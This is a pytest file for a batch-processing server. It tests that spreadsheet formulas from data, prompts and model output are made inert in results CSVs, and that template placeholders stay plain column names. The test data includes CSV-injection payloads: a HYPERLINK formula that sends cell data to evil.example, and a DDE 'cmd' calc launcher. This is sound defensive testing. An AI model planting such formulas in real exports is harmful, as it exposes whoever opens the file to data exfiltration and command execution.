"""Text from records, prompts and model output is data, never instructions (issue 9, items 11 and 12).

In the results CSV a cell a spreadsheet would run as a formula is made inert (the JSONL table keeps the
raw text); in a prepare template a placeholder only names a column, and what a tool answer echoes of
the rendered requests stays small.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from batch_mcp.sandbox import SandboxServer
from batch_mcp.services.prepare import EXAMPLE_CHARS, MAX_PROMPT_CHARS
from batch_mcp.services.results import ResultIndex, build_results_table

from conftest import mcp_session, settings_for
from test_file_safety import call, text_of

#: Cells as a hostile record, prompt or answer may hold them: each starts with one of OWASP's characters.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for details")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tcmd", "\r=1+1"]
#: Plain numbers are read as numbers, not formulas: they stay as they are.
NUMBERS = ["-3.5", "+42", "-1e3"]


def read_csv(path: str | Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# --- the results CSV (item 11) --------------------------------------------------------------------

async def test_results_csv_makes_formulas_inert(sandbox: SandboxServer, workdir: Path) -> None:
    """Records with formulas in their values and in a column name, through prepare, submit and download."""
    source = workdir / "data" / "reviews.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        rows = csv.writer(handle)
        rows.writerow(["id", "review", "=cmd|' /C calc'!A0"])
        rows.writerows([f"-r{n}", value, NUMBERS[n % len(NUMBERS)]] for n, value in enumerate(FORMULAS))
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        prepared = await call(client, "prepare_batch_file", source="data/reviews.csv", model="gpt-4o-mini",
                              prompt="{review}", id_column="id")
        batch_id = (await call(client, "submit_batch", path=prepared["path"]))["batch"]["batch_id"]
        await call(client, "wait_for_batch", batch_id=batch_id, timeout_s=60, poll_interval_s=0.05)
        summary = await call(client, "download_batch_results", batch_id=batch_id)
    header, *cells = read_csv(summary["table_csv_path"])
    column = {name: number for number, name in enumerate(header)}
    assert "'=cmd|' /C calc'!A0" in header and "=cmd|' /C calc'!A0" not in header
    for n, (row, value) in enumerate(zip(cells, FORMULAS, strict=True)):
        assert row[column["custom_id"]] == f"'-r{n}" and row[column["review"]] == "'" + value
        assert row[column["'=cmd|' /C calc'!A0"]] == NUMBERS[n % len(NUMBERS)]
    raw = [json.loads(line) for line in Path(summary["table_jsonl_path"]).read_text().splitlines()]
    assert [(r["custom_id"], r["review"]) for r in raw] == [(f"-r{n}", v) for n, v in enumerate(FORMULAS)]
    assert raw[0]["=cmd|' /C calc'!A0"] == NUMBERS[0]


def test_model_output_and_errors_are_inert_in_the_csv(tmp_path: Path) -> None:
    """What a model answers, or an error says, is no more trusted than the input."""
    answer, error = FORMULAS[0], "@SUM(A1:A9) exceeded"
    results = tmp_path / "results.jsonl"
    results.write_text(json.dumps({"custom_id": "ok", "response": {"status_code": 200, "body": {
        "model": "m", "choices": [{"message": {"role": "assistant", "content": answer}}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1}}}}) + "\n"
        + json.dumps({"custom_id": "ko", "error": {"code": "=code", "message": error}}) + "\n")
    table = build_results_table(ResultIndex([results]), None, tmp_path / "t.csv", tmp_path / "t.jsonl")
    assert (table.succeeded, table.failed) == (1, 1)
    header, ok, ko = read_csv(tmp_path / "t.csv")
    assert ok[header.index("output_text")] == "'" + answer and ok[header.index("input_tokens")] == "1"
    assert ko[header.index("error_message")] == "'" + error and ko[header.index("error_code")] == "'=code"
    raw = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()]
    assert raw[0]["output_text"] == answer and raw[1]["error_message"] == error


# --- prepare_batch_file templates (item 12) ---------------------------------------------------------

@pytest.mark.parametrize("placeholder", ["{review:>5000}", "{review!r}", "{review.upper}", "{review[0]}",
                                         "{review:{id}}", "{}"])
async def test_a_placeholder_is_a_column_name_only(sandbox: SandboxServer, workdir: Path, placeholder: str) -> None:
    """``{review:>50000000}`` on three rows once wrote 150 MB and held 858 MB of server memory."""
    (workdir / "data" / "reviews.csv").write_text("id,review\nr-1,Boils fast.\nr-2,Loud.\nr-3,Fine.\n")
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        result = await client.call_tool("prepare_batch_file", {"source": "data/reviews.csv", "model": "gpt-4o-mini",
                                                               "prompt": f"Summarise: {placeholder}"})
    assert result.is_error, text_of(result)
    assert f"Placeholder {placeholder}" in text_of(result) and "a name only, like {review}" in text_of(result)
    assert not (workdir / "data" / "reviews.batch.jsonl").exists()


async def test_literal_braces_still_work(sandbox: SandboxServer, workdir: Path) -> None:
    (workdir / "data" / "reviews.csv").write_text("id,review\nr-1,Boils fast.\n")
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        prepared = await call(client, "prepare_batch_file", source="data/reviews.csv", model="gpt-4o-mini",
                              prompt='Answer as {{"label": "..."}} for: {review}', system="Rate {{1-5}}.")
    assert prepared["example_prompt"] == 'Answer as {"label": "..."} for: Boils fast.'
    assert prepared["example_line"]["body"]["messages"][0]["content"] == "Rate {1-5}."


async def test_echoed_examples_are_cut_but_the_file_is_whole(sandbox: SandboxServer, workdir: Path) -> None:
    long_review = "word " * 20_000  # 100,000 characters
    (workdir / "data" / "reviews.csv").write_text(f"id,review\nr-1,{long_review}\nr-2,short\n")
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        result = await client.call_tool("prepare_batch_file", {"source": "data/reviews.csv", "model": "gpt-4o-mini",
                                                               "prompt": "Summarise: {review}",
                                                               "system": "Context: {review}"})
    assert not result.is_error, text_of(result)
    prepared = result.structured_content
    assert len(text_of(result)) + len(json.dumps(prepared)) < 8 * EXAMPLE_CHARS + 10_000
    assert len(prepared["example_prompt"]) < EXAMPLE_CHARS + 100 and "more characters" in prepared["example_prompt"]
    system, user = (m["content"] for m in prepared["example_line"]["body"]["messages"])
    assert len(system) < EXAMPLE_CHARS + 100 and len(user) < EXAMPLE_CHARS + 100 and "more characters" in user
    first = json.loads(Path(prepared["path"]).read_text().splitlines()[0])
    assert first["body"]["messages"][1]["content"] == f"Summarise: {long_review}"


async def test_a_prompt_no_model_could_take_is_refused(sandbox: SandboxServer, workdir: Path) -> None:
    """Repeating a placeholder multiplies a record: refused, by row, before anything is built."""
    repeats = MAX_PROMPT_CHARS // 1_000 + 1
    (workdir / "data" / "reviews.csv").write_text(f"id,review\nr-1,short\nr-2,{'x' * 1_000}\n")
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        result = await client.call_tool("prepare_batch_file", {"source": "data/reviews.csv", "model": "gpt-4o-mini",
                                                               "prompt": "{review}" * repeats})
    assert result.is_error and "Row 3 makes a prompt of" in text_of(result), text_of(result)[:500]
    assert not (workdir / "data" / "reviews.batch.jsonl").exists()
